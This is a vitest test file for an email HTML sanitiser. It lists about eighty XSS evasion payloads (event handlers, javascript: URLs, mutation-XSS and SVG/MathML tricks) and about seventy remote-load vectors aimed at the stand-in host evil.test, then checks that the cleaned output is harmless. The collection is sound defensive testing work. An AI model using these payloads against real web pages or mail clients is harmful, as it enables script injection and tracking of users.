import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { HtmlCleaner } from './html-cleaner.ts';

const cleaner = new HtmlCleaner();
const clean = (html: string, remoteUrl?: string) =>
  cleaner.clean({ html, inline: { 'a@x': 'data:,picture' }, ...(remoteUrl === undefined ? {} : { remoteUrl }) });

/** Of public knowledge: OWASP's evasion list, the classes that DOMPurify's own vectors test, advisories of mail clients. */
const scripts: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)//">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x.class" codebase="https://evil.test/">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<isindex action=javascript:alert(1) type=image>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(https://evil.test/x.htc)">x</div>',
  '<div style="-moz-binding:url(https://evil.test/x.xml#x)">x</div>',
  '<xml id=x><x><a><script>alert(1)</script></a></x></xml>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<style></style><img src=x onerror=alert(1)></style>',
  '<style><style/><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(2)>x</x>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<img src=`x` onerror=alert(1)>',
  "<img alt='`><img src=x onerror=alert(1)>'>",
  '<p id="</p><img src=x onerror=alert(1)>">x</p>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
  '<div data-x="<img src=x onerror=alert(1)>">x</div>',
  '<img usemap="javascript:alert(1)"><map name=x><area href="javascript:alert(1)"></map>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<keygen autofocus onfocus=alert(1)>',
  '<a href="https://good.test/" onclick="alert(1)" target="_self">x</a>',
  '<font color="red" onmouseover=alert(1)>x</font>',
  `${'<div>'.repeat(400)}<img src=x onerror=alert(1)>`,
];

/** Each would make a request to evil.test when shown. */
const leaks: readonly string[] = [
  '<img src="https://evil.test/a.png">',
  '<img src="//evil.test/a.png">',
  '<img src="\\\\evil.test\\a.png">',
  '<img src=" ht\ntps://evil.test/a.png">',
  '<img srcset="https://evil.test/a.png 1x, https://evil.test/b.png 2x">',
  '<img src="cid:a@x" srcset="https://evil.test/a.png 2x">',
  '<img lowsrc="https://evil.test/a.png" dynsrc="https://evil.test/b.avi" longdesc="https://evil.test/c">',
  '<picture><source srcset="https://evil.test/a.png"><img src="cid:a@x"></picture>',
  '<input type=image src="https://evil.test/a.png">',
  '<body background="https://evil.test/a.png">',
  '<table background="https://evil.test/a.png"><tr background="//evil.test"><td background="https://evil.test/b.png">x</td></tr></table>',
  '<div style="background:url(https://evil.test/a.png)">x</div>',
  '<div style="background:URL( \'https://evil.test/a.png\' )">x</div>',
  '<div style="background:u\\72l(https://evil.test/a.png)">x</div>',
  '<div style="background:\\75 \\72 \\6c (https://evil.test/a.png)">x</div>',
  '<div style="background:url(\\68 ttps://evil.test/a.png)">x</div>',
  '<div style="background:ur/**/l(x);background:url(/**/https://evil.test/b.png)">x</div>',
  '<div style="background:image-set(\'https://evil.test/a.png\' 1x)">x</div>',
  '<div style="background:-webkit-image-set(url(https://evil.test/a.png) 1x)">x</div>',
  '<div style="background:image(\'https://evil.test/a.png\')">x</div>',
  '<div style="background:cross-fade(\'https://evil.test/a.png\', red)">x</div>',
  '<div style="--x:\'https://evil.test/a.png\';background:image-set(var(--x) 1x)">x</div>',
  '<div style="list-style-image:url(https://evil.test/a.png)">x</div>',
  '<div style="content:url(https://evil.test/a.png)">x</div>',
  '<div style="cursor:url(https://evil.test/a.cur),auto">x</div>',
  '<div style="border-image:url(https://evil.test/a.png) 30">x</div>',
  '<div style="filter:url(https://evil.test/f.svg#x)">x</div>',
  '<div style="mask:url(https://evil.test/a.svg)">x</div>',
  '<div style="shape-outside:url(https://evil.test/a.png)">x</div>',
  '<style>@import "https://evil.test/a.css";</style><p>x</p>',
  '<style>@import url(https://evil.test/a.css);</style><p>x</p>',
  '<style>@\\69mport url("https://evil.test/a.css") screen;</style><p>x</p>',
  '<style>@import/**/"https://evil.test/a.css"</style><p>x</p>',
  '<style>p{color:red}@import "https://evil.test/a.css";</style><p>x</p>',
  '<style>@font-face{font-family:x;src:url(https://evil.test/f.woff)}p{font-family:x}</style><p>x</p>',
  '<style>@media screen{p{background:url(https://evil.test/a.png)}}</style><p>x</p>',
  '<style>p::after{content:url("https://evil.test/a.png")}</style><p>x</p>',
  '<style>p{background:src("https://evil.test/a.png")}</style><p>x</p>',
  '<style>@namespace url(https://evil.test/);</style><p>x</p>',
  '<style><!-- p{background:url(https://evil.test/a.png)} --></style><p>x</p>',
  '<link rel=stylesheet href="https://evil.test/a.css">',
  '<link rel=prefetch href="https://evil.test/a"><link rel=dns-prefetch href="//evil.test"><link rel=preconnect href="https://evil.test">',
  '<link rel=icon href="https://evil.test/a.ico">',
  '<base href="https://evil.test/"><img src="a.png">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<meta http-equiv="Content-Security-Policy" content="report-uri https://evil.test/">',
  '<iframe src="https://evil.test/"></iframe>',
  '<frameset><frame src="https://evil.test/"></frameset>',
  '<object data="https://evil.test/a.swf"></object>',
  '<embed src="https://evil.test/a.swf">',
  '<video src="https://evil.test/a.mp4" poster="https://evil.test/a.png" autoplay></video>',
  '<audio src="https://evil.test/a.mp3" autoplay></audio>',
  '<video><track src="https://evil.test/a.vtt" default></video>',
  '<svg><image href="https://evil.test/a.png"/></svg>',
  '<svg><image xlink:href="https://evil.test/a.png"/></svg>',
  '<svg><use href="https://evil.test/a.svg#x"/></svg>',
  '<svg><style>@import "https://evil.test/a.css";</style></svg>',
  '<svg><filter><feImage href="https://evil.test/a.png"/></filter></svg>',
  '<svg style="fill:url(https://evil.test/a.svg#x)"></svg>',
  '<math href="https://evil.test/"><mi>x</mi></math>',
  '<form action="https://evil.test/"><input name=q><button>x</button></form>',
  '<html manifest="https://evil.test/a.appcache">',
  '<head profile="https://evil.test/">',
  '<blockquote cite="https://evil.test/">x</blockquote>',
  '<img attributionsrc="https://evil.test/">',
  '<script src="https://evil.test/a.js"></script>',
  '<bgsound src="https://evil.test/a.mid">',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.test/a.png'/></svg>\">",
  '<p style="background:url(data:image/svg+xml,https://evil.test)">x</p>',
  '<?xml-stylesheet href="https://evil.test/a.css"?>',
];

const dangerous = /^(?:on|srcdoc$|srcset$|formaction$|action$|ping$|poster$|xlink:)/;
const allowedElsewhere = /^(?:https?:\/\/|mailto:|tel:|sms:|#)/;

interface Element {
  readonly localName: string;
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>;
}

/** Parsed anew, as the browser will: what mutates shows itself here. With scripts on, so that one that is left runs. */
function expectHarmless(html: string): void {
  const dom = new JSDOM(html, { runScripts: 'dangerously' }) as unknown as {
    window: { document: { querySelectorAll(selector: string): Iterable<Element> }; close(): void };
  };
  for (const element of dom.window.document.querySelectorAll('*')) {
    expect(element.localName).not.toMatch(
      /^(?:script|iframe|frame|object|embed|applet|base|link|form|svg|math|template)$/,
    );
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(dangerous);
      if (name === 'href') expect(value).toMatch(allowedElsewhere);
      if (name === 'src' || name === 'background') expect(value).toMatch(/^(?:data:|\/proxy\?url=)/);
      if (name === 'http-equiv') throw new Error(`http-equiv is left: ${value}`);
    }
  }
  dom.window.close();
}

describe('what could run', () => {
  it.each(scripts)('%s', (html) => {
    expectHarmless(clean(html).html);
    // The same inside of a document, and with remote content on.
    expectHarmless(
      clean(`<html><head><title>t</title></head><body><div>${html}</div></body></html>`, '/proxy?url=').html,
    );
  });
});

describe('what would load from elsewhere', () => {
  it.each(leaks)('%s', (html) => {
    const found = clean(html).html;
    expectHarmless(found);
    expect(found.replaceAll(/&[a-z]+;/g, '')).not.toContain('evil.test');
    // With remote content on nothing goes there directly either.
    const proxied = clean(html, '/proxy?url=').html;
    expectHarmless(proxied);
    expect(proxied.replaceAll(/\/proxy\?url=[^"')\s&]*/g, '')).not.toContain('evil.test');
  });
});

describe('what a mail needs', () => {
  it('keeps layout, styles and links', () => {
    const html = `<html><head><style>p.x > b { color: #f00; margin: -5px } @media (max-width: 600px) { p { width: 100% !important } }</style></head>
      <body bgcolor="#eee" style="margin:0"><table width="600" cellpadding="0" align="center"><tr><td style="font-family: 'Segoe UI', sans-serif">
      <center><font color="red">Hi</font></center><a href="https://good.test/?a=1&amp;b=2" title="t">go</a> <a href="#top">up</a><a name="top"></a>
      <a href="mailto:a@b.test">mail</a></td></tr></table></body></html>`;
    const found = clean(html).html;
    expect(found).toContain(
      'p.x > b { color: #f00; margin: -5px } @media (max-width: 600px) { p { width: 100% !important } }',
    );
    expect(found).toContain('<body bgcolor="#eee" style="margin:0">');
    expect(found).toContain('style="font-family: &quot;Segoe UI&quot;, sans-serif"');
    expect(found).toContain('<center><font color="red">Hi</font></center>');
    expect(found).toMatch(
      /<a href="https:\/\/good\.test\/\?a=1&amp;b=2" title="t" target="_blank" rel="noopener noreferrer nofollow">go<\/a>/,
    );
    expect(found).toMatch(/<a href="#top" rel="[^"]*">up<\/a>/);
    expect(found).toMatch(/^<!doctype html>\n<html><head><meta charset="utf-8">/);
  });

  it('puts inline pictures in by their Content-ID, in attributes and in CSS', () => {
    const found = clean(
      '<img src="cid:a@x"><img src="CID:a%40x"><p style="background:url(cid:a@x)"></p><img src="cid:none">',
    ).html;
    expect(found.match(/data:,picture/g)).toHaveLength(3);
    expect(found).not.toContain('cid:');
    expect(clean('<img src="data:image/png;base64,AAAA">').html).toContain('data:image/png;base64,AAAA');
  });

  it('says what it would load, and writes the proxy in its place when asked to', () => {
    const html = `<img src="//a.test/1.png?x=1&amp;y"><td background=http://b.test/2.png></td><style>p{background:url(https://c.test/3.png)}</style>
      <img src="https://c.test/3.png"><a href="https://link.test/">x</a>`;
    const { remote } = clean(html);
    expect([...remote].sort()).toEqual(['https://a.test/1.png?x=1&y', 'https://c.test/3.png']);
    const found = clean(`<table><tr>${html}</tr></table>`, '/proxy?url=');
    expect([...found.remote].sort()).toEqual([
      'http://b.test/2.png',
      'https://a.test/1.png?x=1&y',
      'https://c.test/3.png',
    ]);
    expect(found.html).toContain('src="/proxy?url=https%3A%2F%2Fa.test%2F1.png%3Fx%3D1%26y"');
    expect(found.html).toContain('background="/proxy?url=http%3A%2F%2Fb.test%2F2.png"');
    expect(found.html).toContain('url("/proxy?url=https%3A%2F%2Fc.test%2F3.png")');
  });
});
